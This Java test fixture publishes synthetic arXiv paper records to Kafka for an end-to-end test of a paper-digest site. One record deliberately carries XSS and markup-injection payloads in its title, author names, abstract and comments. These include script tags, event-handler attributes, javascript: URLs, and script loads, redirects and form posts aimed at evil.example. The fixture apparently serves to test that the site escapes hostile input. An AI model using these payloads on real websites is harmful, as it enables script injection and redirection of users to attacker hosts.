package dev.paperboy.e2e;

import com.fasterxml.jackson.core.JsonProcessingException;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.paperboy.backing.TopicRecords;
import java.io.IOException;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.List;
import org.apache.kafka.clients.producer.KafkaProducer;
import org.apache.kafka.clients.producer.ProducerRecord;

/**
 * Papers as long, as full of formulas and as hostile as the internet's, announced so long before
 * {@link Specimens#DAY} that no digest and no list of the day has them.
 */
final class OddPapers {
  static final LocalDate DAY = Specimens.DAY.minusDays(13);
  static final String FIRST = "2602.70001";
  static final String HOSTILE = "2602.70099";

  /** Full lists have as many. */
  static final int REAL_SIZED = 30;

  static final int ALL = REAL_SIZED + 1;

  /** In each title, so that a search finds all. */
  static final String WORD = "zirconium";

  private static final ObjectMapper JSON = new ObjectMapper();

  /** About what an abstract has: 1,200 characters, a few formulas. */
  private static final String ABSTRACT =
      "We study the thermal conductivity of zirconium alloys near the phase boundary and give the"
          + " first bound of order $\\mathcal{O}(n^{3/2}\\log n)$ on the number of samples. The model"
          + " couples the lattice distortion $\\epsilon_{ij}$ with a field $\\phi \\in \\mathbb{R}^d$ and"
          + " is trained on %d measured spectra. In contrast to earlier work, no assumption on the"
          + " smoothness of the potential is needed: it suffices that $\\sum_{i=1}^n \\|x_i\\|_2 \\leq C$"
          + " holds for some constant. Experiments on three public data sets show that the estimator"
          + " is more accurate by %d %% at a tenth of the cost, and that its uncertainty is calibrated"
          + " over the whole range of temperatures. We discuss where the method fails, in particular"
          + " for samples with many grain boundaries, and how to detect such cases before they do"
          + " harm. Code, spectra and the trained models are available. An extension to hafnium is"
          + " sketched, for which the same bound holds with $\\frac{a}{2}$ in place of $a$; whether it"
          + " is tight remains open, as does the question how much of it carries over to ceramics.";

  private static final String ATTACK =
      String.join(
          " ",
          "<script>document.title='run'</script>",
          "<img src=x onerror=\"document.title='run'\">",
          "<svg/onload=document.title='run'>",
          "</p></article></main></body><h1>Broken</h1>",
          "</title><script src=//evil.example/x.js></script>",
          "<iframe src='javascript:document.title=1'></iframe>",
          "<style>*{display:none!important}</style>",
          "<meta http-equiv=refresh content='0;url=http://evil.example'>",
          "<base href=http://evil.example/>",
          "<form action=http://evil.example><input name=q autofocus onfocus=document.title='run'>",
          "<math><mtext></mtext><script>document.title='run'</script></math>",
          "$\\href{javascript:document.title='run'}{x}$ $\\text{<img src=x onerror=alert(1)>}$",
          "$\\class{\" onmouseover=\"document.title='run'}{x}$ \\includegraphics{http://evil.example/x.png}",
          "]]><x:script xmlns:x='http://www.w3.org/1999/xhtml'>document.title='run'</x:script><![CDATA[",
          "{#include pagekit/layout} {config:property('x')}",
          "[x](javascript:alert(1)) ![x](http://evil.example/x.png)",
          "\u202etxet desrever\u202c unbroken" + "x".repeat(2_000),
          "$" + "{".repeat(200) + "x" + "}".repeat(200) + "$");

  private OddPapers() {}

  /** Announces them all; they are on the site a little later. */
  static void announce(String kafka) throws IOException {
    try (KafkaProducer<String, byte[]> producer = TopicRecords.producer(kafka)) {
      for (int i = 1; i <= REAL_SIZED; i++) {
        send(producer, realSized(i));
      }
      send(producer, hostile());
      // A second version, so that there is something to tell.
      send(
          producer,
          realSized(1)
              .put("seq", 2)
              .put("kind", "replaced")
              .put("version", 2)
              .put("updated", DAY.plusDays(3).toString())
              .put("title", title(1) + ", revised"));
      for (int day = 0; day < 6; day++) {
        ObjectNode seen = JSON.createObjectNode();
        seen.put("id", "arxiv:" + FIRST).put("source", "hf-daily");
        seen.put("observedAt", DAY.plusDays(day) + "T12:00:00Z");
        seen.put("votes", 8 + 9 * day).put("comments", day).put("stars", 40 * day);
        seen.put("url", "https://huggingface.co/papers/" + FIRST);
        seen.put("repository", "https://github.com/specimen/zirconium");
        producer.send(
            new ProducerRecord<>("attention.v1", "arxiv:" + FIRST, JSON.writeValueAsBytes(seen)));
      }
    }
  }

  private static void send(KafkaProducer<String, byte[]> producer, ObjectNode paper)
      throws JsonProcessingException {
    producer.send(
        new ProducerRecord<>(
            "papers.announced.v1", paper.get("id").asText(), JSON.writeValueAsBytes(paper)));
  }

  private static String title(int number) {
    return "Sample-efficient thermal conductivity of zirconium alloys from $%d^{\\circ}$C to $T_c$"
        .formatted(100 + number);
  }

  private static ObjectNode realSized(int number) {
    return paper(
        "2602.%05d".formatted(70_000 + number),
        title(number),
        ABSTRACT.formatted(1_000 + 37 * number, 2 + number),
        List.of(
            "Ada Specimen",
            "Erd\\H{o}s Specimen",
            "Björn Østergård-Specimen",
            "The ZIRCONIUM Collaboration",
            "Specimen Author %d".formatted(number),
            "Specimen Author %d".formatted(number + 1),
            "Specimen Author %d".formatted(number + 2)));
  }

  private static ObjectNode hostile() {
    List<String> authors = new ArrayList<>();
    authors.add("<b onmouseover=document.title='run'>Eve</b> Specimen");
    authors.add("\" onfocus=document.title='run' autofocus x=\" Specimen");
    return paper(
            HOSTILE,
            "Zirconium <script>document.title='run'</script> & \"quotes\"",
            ATTACK,
            authors)
        .put("comments", ATTACK);
  }

  private static ObjectNode paper(String id, String title, String text, List<String> authors) {
    ObjectNode paper = JSON.createObjectNode();
    paper.put("id", "arxiv:" + id).put("seq", 1).put("kind", "new").put("source", "arxiv");
    paper.put("version", 1).put("title", title).put("abstract", text);
    authors.forEach(paper.putArray("authors")::add);
    paper.putArray("categories").add("cond-mat.mtrl-sci").add("cs.LG");
    paper.put("announced", DAY.toString()).put("updated", DAY.toString());
    return paper.put("withdrawn", false).put("specimen", false);
  }
}
